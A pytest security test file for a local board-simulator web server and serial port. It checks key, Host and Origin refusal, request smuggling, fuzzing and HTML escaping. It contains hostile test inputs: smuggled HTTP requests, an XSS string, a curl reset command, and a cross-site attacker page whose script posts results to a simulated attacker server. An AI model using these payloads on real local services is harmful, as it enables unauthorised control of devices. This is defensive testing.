"""Only the page that the terminal named can read or change anything.

The others that try are raw sockets, curl, and a browser that visits a page elsewhere.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import shutil
import socket
import subprocess
import threading
import time
from functools import cache
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest
from hypothesis import given
from hypothesis import strategies as st

from common.errors import UserError
from common.live_view import Console
from common.page_server import LARGEST_BODY_BYTES, PAGES, Answer, PageServer
from sim.boards.simulated_session import SimulatedSession
from sim.live.board_page import WebView
from sim.live.line_server import LiveBoard, Rfc2217Line
from sim.parts.camera_source import open_camera
from tests.conftest import absent
from tests.support.board_web import wait_for

LIMIT_S = 120.0
"""How long an answer is waited for. Only a fault takes so long."""
CURL = shutil.which("curl") or ""


class Counter:
    """A page whose one button counts how often it was pressed."""

    def __init__(self):
        self.bodies: list[bytes] = []
        self.reads = 0

    def press(self, request):
        self.bodies.append(request.body)
        return Answer()

    def read(self, request):
        self.reads += 1
        return Answer.json(len(self.bodies))

    def fail(self, request):
        raise {"user": UserError("no such camera"), "bug": ZeroDivisionError("oh")}[request.text()]

    def pieces(self, request):
        return Answer(iter([b"one ", b"two"]))


@pytest.fixture
def counter():
    return Counter()


@pytest.fixture
def server(counter):
    handlers = {
        "POST /press": counter.press, "GET /count": counter.read, "POST /fail": counter.fail,
        "GET /pieces": counter.pieces,
    }  # fmt: skip
    server = PageServer({"/": PAGES / "page.html"}, handlers)
    yield server
    server.close()


def ask(server, head: str, body: bytes = b"", key: str | None = None, host: str | None = None) -> bytes:
    """Everything that the server answers to these bytes until it closes the connection."""
    lines = [head, f"Host: {host or f'127.0.0.1:{server.port}'}"] + ([f"X-Key: {key}"] if key else [])
    with socket.create_connection(("127.0.0.1", server.port), LIMIT_S) as line:
        line.sendall("\r\n".join(lines).encode() + b"\r\n\r\n" + body)
        said = b""
        with contextlib.suppress(ConnectionResetError):
            while data := line.recv(65536):
                said += data
        return said


def test_the_page_itself_can_do_everything(server, counter):
    """With the key, buttons work, answers may come in pieces, errors are sentences, and the connection stays open."""
    line = http.client.HTTPConnection("127.0.0.1", server.port, timeout=LIMIT_S)

    def ask_again(method: str, path: str, body: bytes = b"") -> tuple[int, bytes]:
        line.request(method, path, body, {"X-Key": server.key})
        answer = line.getresponse()
        assert path != "/pieces" or answer.getheader("Transfer-Encoding") == "chunked"
        return answer.status, answer.read()

    assert ask_again("POST", "/press", b"on") == (200, b"") and counter.bodies == [b"on"]
    first = line.sock
    assert ask_again("GET", "/count") == (200, b"1")
    assert line.sock is first is not None
    assert ask_again("GET", "/pieces") == (200, b"one two")
    assert ask_again("POST", "/fail", b"user") == (400, b"no such camera")
    assert line.sock is None, "the server has closed it"
    status, said = ask_again("POST", "/fail", b"bug")
    assert status == 500 and b"ZeroDivisionError: oh" in said and b"Traceback" not in said


HIDDEN = b"POST /press HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nX-Key: %s\r\nX-Board: 1\r\nContent-Length: 0\r\n\r\n"


@pytest.mark.parametrize(
    "head",
    [
        "POST /press HTTP/1.1\r\nContent-Length: {length}",
        "POST /press HTTP/1.1\r\nContent-Length: {length}\r\nX-Key: wrong",
        "POST /nothing HTTP/1.1\r\nContent-Length: {length}",
        "POST / HTTP/1.1\r\nContent-Length: {length}",
        "OPTIONS /press HTTP/1.1\r\nContent-Length: {length}",
        "POST /press HTTP/1.1\r\nContent-Length: {length}\r\nTransfer-Encoding: chunked",
        "POST /press HTTP/1.1\r\nTransfer-Encoding: chunked",
        "POST /press HTTP/1.1\r\nTransfer-Encoding: gzip",
        "POST /press HTTP/1.1\r\nContent-Length: many",
        "POST /press HTTP/1.1\r\nContent-Length: -1",
        "POST /press HTTP/1.1\r\nContent-Length: 4.5",
        "POST /press HTTP/1.1\r\nContent-Length: +1",
        "POST /press HTTP/1.1\r\nContent-Length: 0\r\nContent-Length: {length}",
        f"POST /press HTTP/1.1\r\nContent-Length: {LARGEST_BODY_BYTES + 1}",
    ],
)
def test_a_refused_body_is_never_the_next_request(server, counter, head):
    """A request hidden in the body of a refused one must not be executed, even if it knew the key."""
    hidden = HIDDEN % (server.port, server.key.encode())
    said = ask(server, head.format(length=len(hidden)), hidden)
    assert said.count(b"HTTP/1.") == 1 and said.startswith(b"HTTP/1.1 ") and said[9:10] in b"45"
    assert b"Connection: close" in said
    assert counter.bodies == []


@pytest.mark.parametrize(
    ("head", "key", "host"),
    [
        ("POST /press HTTP/1.1\r\nContent-Length: 0", "right", "evil.example"),
        ("POST /press HTTP/1.1\r\nContent-Length: 0", "right", "127.0.0.1"),
        ("POST /press HTTP/1.1\r\nContent-Length: 0", "right", "127.0.0.1:1"),
        ("GET / HTTP/1.1", "right", "evil.example"),
        ("POST /press HTTP/1.1\r\nContent-Length: 0\r\nOrigin: http://evil.example", "right", None),
        ("POST /press HTTP/1.1\r\nContent-Length: 0\r\nOrigin: null", "right", None),
        ("POST /press HTTP/1.1\r\nContent-Length: 0\r\nOrigin: http://127.0.0.1:1", "right", None),
        ("POST /press HTTP/1.1\r\nContent-Length: 0\r\nSec-Fetch-Site: cross-site", "right", None),
        ("POST /press HTTP/1.1\r\nContent-Length: 0\r\nSec-Fetch-Site: same-site", "right", None),
        ("GET /count HTTP/1.1\r\nOrigin: http://evil.example", "right", None),
        ("GET /count HTTP/1.1", None, None),
        ("GET /count HTTP/1.1", "wrong", None),
        ("GET /count HTTP/1.1", "\xff", None),
        ("GET /../secret HTTP/1.1", None, None),
    ],
)
def test_each_check_alone_refuses(server, counter, head, key, host):
    """A wrong Host, Origin, Sec-Fetch-Site or key is enough by itself to be refused, for reading too."""
    said = ask(server, head, key=server.key if key == "right" else key, host=host)
    assert said.startswith(b"HTTP/1.1 403 ") and b"Connection: close" in said
    assert counter.bodies == [] and counter.reads == 0


@given(st.binary(max_size=300), st.booleans())
def test_any_bytes_change_nothing(data, framed):
    """Whatever is sent without the key, as a whole request or as a body, nothing is done."""
    counter, server = Counter(), _shared_server()
    server._handlers = {"POST /press": counter.press, "GET /count": counter.read}
    head = b"POST /press HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n" % server.port if framed else b""
    with socket.create_connection(("127.0.0.1", server.port), 10) as line, contextlib.suppress(OSError):
        line.sendall(head + data + b"\r\n\r\n")
        line.shutdown(socket.SHUT_WR)
        line.settimeout(LIMIT_S)
        while line.recv(65536):
            pass
    assert counter.bodies == [] and counter.reads == 0


@cache
def _shared_server():
    """One server for all examples, because opening one takes longer than an example."""
    return PageServer({}, {})


def test_only_this_machine_is_served(server):
    """Nothing listens on the machine's other addresses, so nobody else in the network can try."""
    assert server._server.effective_host == "127.0.0.1"
    for family, _, _, _, address in socket.getaddrinfo(socket.gethostname(), server.port, type=socket.SOCK_STREAM):
        if not str(address[0]).startswith("127."):
            with socket.socket(family) as other, pytest.raises(OSError):
                other.settimeout(2)
                other.connect(address)


def test_a_taken_port_is_one_line(server):
    """A second board on the same --web port must be told which option to change."""
    with pytest.raises(UserError, match=f"port {server.port} cannot be opened .*--web N"):
        PageServer({}, {}, server.port)


def is_ended(line: socket.socket) -> bool:
    """Whether the other end closed the connection, or broke it off, without another byte."""
    try:
        return line.recv(100) == b""
    except ConnectionResetError:
        return True


def test_a_closed_server_frees_its_port_and_ends_its_connections(server):
    """Otherwise the next start would fail, and the browser would wait for an answer that never comes."""
    with socket.create_connection(("127.0.0.1", server.port), 10) as line:
        wait_for(lambda: server._sockets)
        server.close()
        line.settimeout(LIMIT_S)
        assert is_ended(line)
    again = PageServer({}, {}, server.port)
    again.close()


def test_a_server_can_be_closed_while_an_answer_wakes_its_thread(monkeypatch):
    """An answer that ends wakes the server's thread too. It then found the order to close before close() had woken it.

    It closed the trigger under close(), which failed with a bad file descriptor.
    """
    server = PageServer({}, {})
    trigger = server._server.trigger
    wake = trigger._physical_pull

    def wake_twice():
        wake()
        server._thread.join(0.3)  # time in which the thread must not yet close anything
        wake()

    monkeypatch.setattr(trigger, "_physical_pull", wake_twice)
    server.close()
    assert not server._thread.is_alive()


@given(st.lists(st.text(max_size=30), max_size=30), st.integers(1, 40), st.data())
def test_the_console_is_bounded_and_loses_nothing_new(pieces, limit, data):
    """A board that prints for days must not fill the memory, and a reader who keeps up must miss nothing."""
    console, whole, read, at = Console(limit), "", "", 0
    for piece in pieces:
        console.add(piece)
        whole += piece
        assert sum(map(len, console._pieces)) <= limit
        start = data.draw(st.integers(0, len(whole) + 3))
        text, end = console.since(start)
        assert end == len(whole) and text == whole[max(start, len(whole) - limit) :]
        if len(piece) <= limit:
            text, at = console.since(at)
            read += text
        else:
            return
    assert read == whole


# -- the simulated board -------------------------------------------------------------------------------------


class Bench:
    """A simulated board with its page and its RFC 2217 port."""

    def __init__(self, folder):
        self.session = SimulatedSession(folder, open_camera("scene:7"))
        self.live = LiveBoard(self.session.board)
        self.line = Rfc2217Line(self.live)
        self.view = WebView(self.live, self.session.page())
        self.live.start()
        wait_for(lambda: self.view.state(0)["prompt"].endswith(">>> "))
        self.before = self.look()

    def look(self):
        state = self.view.state(0)
        return [state[name] for name in ("mode", "resets", "source", "console", "prompt")], self.live.received_bytes

    def is_untouched(self) -> bool:
        """Whether the board is as before. The pause lets arrive what was sent."""
        time.sleep(0.3)
        return bool(self.look() == self.before)

    def close(self):
        self.view.close()
        self.line.close()
        self.live.stop()


@pytest.fixture
def bench(tmp_path):
    bench = Bench(tmp_path / "board")
    yield bench
    bench.close()


def test_curl_cannot_change_the_board(bench):
    """Every command of the page is refused without the key, with all headers that curl can be told to send."""
    if not CURL:
        absent("curl", "curl")
    origin = bench.view.server.origin
    for path, body in (("keys", '{"text": "x"}'), ("camera", '{"source": "scene:1"}'), ("reset", '{"boot": true}')):
        for more in ([], ["-H", f"Origin: {origin}"], ["-H", "X-Board: 1"], ["-H", "Transfer-Encoding: chunked"],
                     ["-H", "X-Key;"], ["-H", "X-Key: guess"], ["-H", "Host: localhost"]):  # fmt: skip
            said = subprocess.run(
                [CURL, "-s", "-m", "10", "--noproxy", "*", "-o", "-", "-w", "%{http_code}", "-d", body, *more,
                 f"{origin}/{path}"],
                capture_output=True, text=True,
            ).stdout  # fmt: skip
            assert said.endswith("403")
    for path in ("state", "lcd.png"):
        said = subprocess.run([CURL, "-s", "--noproxy", "*", "-w", "%{http_code}", f"{origin}/{path}"],
                              capture_output=True, text=True).stdout  # fmt: skip
        assert said.endswith("403") and "console" not in said
    subprocess.run([CURL, "-s", "-m", "2", "--noproxy", "*", "-d", "import machine; machine.reset()",
                    f"http://127.0.0.1:{bench.line.port}/"], capture_output=True)  # fmt: skip
    assert bench.is_untouched()


@pytest.mark.parametrize(
    "data",
    [b"GET / HTTP/1.1\r\n\r\n", b"POST /x HTTP/1.1\r\nContent-Length: 8\r\n\r\nprint(1)", b"\x03print(1)\r",
     b"\x16\x03\x01\x02\x00\x01", b"\x00\x03\x00\x00"],
)  # fmt: skip
def test_the_serial_port_closes_what_is_no_telnet(bench, data):
    """A browser can be made to send HTTP or TLS to any port. It is closed unanswered, and the next client is served."""
    with socket.create_connection(("127.0.0.1", bench.line.port), 10) as line:
        line.sendall(data)
        line.settimeout(LIMIT_S)
        assert is_ended(line)
    assert bench.is_untouched()
    import serial

    with serial.serial_for_url(bench.line.url, baudrate=115200, timeout=LIMIT_S) as port:
        port.write(b"print(6*7)\r")
        assert b"42" in port.read_until(b"42")


ATTACK = """<!DOCTYPE html><meta charset=utf-8><title>elsewhere</title><body><pre id=log></pre><script>
const page = "PAGE", serial = "SERIAL", log = [];
const hidden = "POST /reset HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nX-Board: 1\\r\\nContent-Length: 4\\r\\n\\r\\nboot";
const note = (name, promise) => promise.then(
  async answer => log.push(name + " " + answer.type + " " + (answer.type == "opaque" ? "" : await answer.text())),
  error => log.push(name + " refused"));
async function attack() {
  // The serial port knows no paths.
  const paths = ["/keys", "/camera", "/reset", "/state", "/lcd.png", "/"];
  for (const [base, path] of [...paths.map(path => [page, path]), [serial, "/reset"]]) {
    const quick = { signal: AbortSignal.timeout(2000) };
    await note("plain", fetch(base + path, { ...quick, method: "POST", mode: "no-cors", body: hidden }));
    await note("big", fetch(base + path, { ...quick, method: "POST", mode: "no-cors",
      body: hidden + "x".repeat(70000) + hidden }));
    await note("header", fetch(base + path, { ...quick, method: "POST", headers: { "X-Key": "x", "X-Board": "1" },
      body: "boot" }));
    await note("read", fetch(base + path, { ...quick, credentials: "include" }));
    for (const kind of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]) {
      const frame = document.createElement("iframe"), form = document.createElement("form");
      frame.name = "f" + Math.random();
      document.body.append(frame, form);
      Object.assign(form, { method: "POST", action: base + path, target: frame.name, enctype: kind });
      form.append(Object.assign(document.createElement("textarea"), { name: hidden, value: hidden }));
      form.submit();
    }
    navigator.sendBeacon(base + path, hidden);
  }
  const picture = new Image();
  const shown = await new Promise(done => {
    picture.onload = () => done("yes"); picture.onerror = () => done("no"); picture.src = page + "/lcd.png";
    setTimeout(() => done("no"), 2000);
  });
  const frame = document.createElement("iframe");
  frame.src = page + "/";
  document.body.append(frame);
  await new Promise(done => setTimeout(done, 500));
  let inside = "no";
  try { inside = frame.contentDocument.title ? "yes" : "no"; } catch (refused) {}
  log.push("picture " + shown, "inside " + inside, "DONE");
  document.getElementById("log").textContent = log.join("\\n");
  document.title = "DONE";
}
attack().then(() => fetch("/done", { method: "POST", body: log.join("\\n") }));
</script>"""


class Elsewhere(BaseHTTPRequestHandler):
    """The attacker's own web server, which hears what its page came to know."""

    page = b""
    heard: list[str] = []

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page)

    def do_POST(self):
        self.heard.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_):
        pass


@pytest.mark.xdist_group("browser")
@pytest.mark.browser
def test_a_page_elsewhere_cannot_change_the_board(bench, chromium):
    """A real browser visits an attacker's page, which tries fetch, forms, beacons, hidden requests and frames."""
    heard: list[str] = []
    page = ATTACK.replace("PAGE", bench.view.server.origin).replace("SERIAL", f"http://127.0.0.1:{bench.line.port}")
    attacker = HTTPServer(("127.0.0.1", 0), type("Attacker", (Elsewhere,), {"page": page.encode(), "heard": heard}))
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    try:
        chromium.ask("Page.navigate", url=f"http://localhost:{attacker.server_address[1]}/")
        wait_for(lambda: heard)
    finally:
        attacker.shutdown()
        attacker.server_close()
    lines = heard[0].split("\n")
    assert lines[-1] == "DONE" and len(lines) == 7 * 4 + 3
    assert {line for line in lines if line.startswith(("read", "header"))} == {"read refused", "header refused"}
    assert "picture no" in lines and "inside no" in lines
    assert bench.is_untouched()


@pytest.mark.xdist_group("browser")
@pytest.mark.browser
def test_without_the_key_the_page_says_what_to_open(bench, chromium):
    """Somebody opens the address without the part behind the #.

    The page shows nothing of the board and says what to do.
    """
    chromium.open(bench.view.server.origin + "/")
    wait_for(lambda: "open the whole address that the terminal shows" in chromium.dom())
    assert "init end" not in chromium.dom()


@pytest.mark.xdist_group("browser")
@pytest.mark.browser
def test_what_a_board_says_is_text_on_the_page(bench, chromium):
    """Markup and escape sequences from a board are shown and not obeyed, even if they arrive as a pose line."""
    bench.view.hear(b'<img src=x onerror="document.title=1"><script>document.title=2</script>\x1b]0;t\x07\n')
    pose = {"id": 1, "score": 50, "keypoints": []}
    bench.view.hear(json.dumps({"seq": 1, "ms": 2, "poses": [pose]}, separators=(",", ":")).encode() + b"\n")
    chromium.open(bench.view.url)
    wait_for(lambda: "person 1" in chromium.dom())
    dom = chromium.dom()
    assert "&lt;img src=x onerror=" in dom and "\\x1b]0;t\\x07" in dom and "\x1b" not in dom
    assert "<title>PoseNet</title>" in dom and chromium.run("document.title") == "PoseNet"
